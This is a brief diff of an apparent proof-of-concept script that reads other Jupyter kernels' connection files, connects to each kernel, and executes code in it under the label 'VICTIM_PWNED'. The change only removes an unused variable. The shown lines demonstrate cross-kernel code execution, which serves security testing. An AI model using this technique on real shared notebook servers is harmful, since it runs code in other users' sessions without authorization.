@@ -311,7 +311,7 @@ for name in others:
     kc.load_connection_info(json.load(open(os.path.join(runtime, name))))
     kc.start_channels()
     try:
-        msg_id = kc.execute("VICTIM_PWNED = True")
+        kc.execute("VICTIM_PWNED = True")
         reply = kc.get_shell_msg(timeout=10)
         print("EXECUTED-IN-VICTIM", name, reply["content"]["status"], flush=True)
     except Exception as exc:
